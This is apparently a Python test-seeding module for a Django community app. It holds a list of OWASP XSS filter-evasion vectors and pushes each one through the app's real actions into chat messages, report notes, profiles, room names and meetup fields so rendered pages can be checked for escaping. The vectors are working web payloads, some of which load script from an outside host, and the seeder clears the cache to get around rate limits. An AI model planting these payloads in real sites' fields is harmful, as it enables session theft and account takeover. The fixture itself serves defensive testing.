"""OWASP XSS filter-evasion vectors (cheat sheet, abridged to the families
that matter for server-rendered HTML, Markdown and JSON-in-script), and the
seeding of them through the real actions into every field a member types.

Every vector calls alert(): if one ever runs, Chromium raises a dialog.
"""

import re

VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    '&#0000083&#0000039&#0000041">',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "</script><script>alert('XSS')</script>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<svg/onload=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<a href=\"javascript:alert('XSS')\">click me</a>",
    "[click me](javascript:alert('XSS'))",
    "[click me](JaVaScRiPt:alert('XSS'))",
    "![img](x\" onerror=\"alert('XSS'))",
    "<details open ontoggle=alert('XSS')>",
    "<object data=\"javascript:alert('XSS')\">",
    '"><script>alert(document.domain)</script>',
    "'-alert('XSS')-'",
    "{{constructor.constructor('alert(1)')()}}",
    "`${alert('XSS')}`",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
]


def seed() -> dict:
    """Put every vector into messages, display names, bios, room names and
    descriptions, meetup titles and descriptions and report notes, through
    the actions the pages and sockets use. Returns what to visit."""
    import uuid
    from datetime import time, timedelta

    from django.core.cache import cache
    from django.utils import timezone

    from community import actions as members
    from community.models import User
    from events import actions as meetups
    from groups import actions as chat
    from groups.models import Room

    sam = User.objects.get(email="sam@example.org")
    jordan = User.objects.get(email="jordan@example.org")
    riley = User.objects.get(email="riley@example.org")
    morgan = User.objects.get(email="morgan@example.org")
    welcome = Room.objects.get(slug="welcome")
    for member in (sam, jordan):
        chat.accept_guidelines(member=member, room=welcome)

    messages = []
    for vector in VECTORS:
        cache.clear()  # the send rate limit is not what this seeds
        result = chat.post_message(author=sam, room=welcome, body=vector, client_id=str(uuid.uuid4()))
        messages.append(result.message)
    for message, vector in zip(messages, VECTORS, strict=True):
        cache.clear()  # nor is the report rate limit
        chat.report_message(reporter=jordan, room=welcome, message_id=message.pk, reason="other", note=vector)

    # One member per vector, so that every vector is somebody's display name
    # and bio at once (accounts come from invitations; the fields are typed).
    profiles = []
    for index, vector in enumerate(VECTORS):
        member = User.objects.create_user(
            email=f"xss{index}@example.org", password=None, display_name=f"Member {index}", cohort=sam.cohort
        )
        name = f"{vector.replace('@', '')[:36]} {index}"
        members.update_profile(member=member, changes={"display_name": name, "bio": vector, "in_directory": True})
        profiles.append(member.pk)
    members.update_profile(member=sam, changes={"bio": "\n".join(VECTORS)[:500]})

    rooms = []
    for index, vector in enumerate(VECTORS):
        room = chat.create_room(
            creator=riley, name=vector[:80], description=vector[:300], slug=f"xss-{index}", guidelines=vector
        )
        chat.join_room(member=sam, room=room)
        rooms.append(room.slug)

    occurrences = []
    for index, vector in enumerate(VECTORS):
        event = meetups.create_event(
            author=morgan,
            # One-line fields refuse control characters; the markup still goes in.
            title=re.sub(r"[\x00-\x1f\x7f]", " ", vector)[:120],
            description="\n\n".join(VECTORS)[:4000],
            host=None,
            time_zone="America/Chicago",
            start_date=timezone.localdate() + timedelta(days=1 + index % 5),
            start_time=time(18, index % 60),
            duration=timedelta(minutes=60),
            format="in_person",
            address=re.sub(r"[\x00-\x1f\x7f]", " ", vector)[:300],
            meeting_url="",
            capacity=None,
            audience="all",
            frequency="once",
        )
        occurrences.append(event.occurrences.first().pk)
    return {"profiles": sorted(set(profiles)), "rooms": rooms, "occurrences": occurrences, "sam": sam.pk}
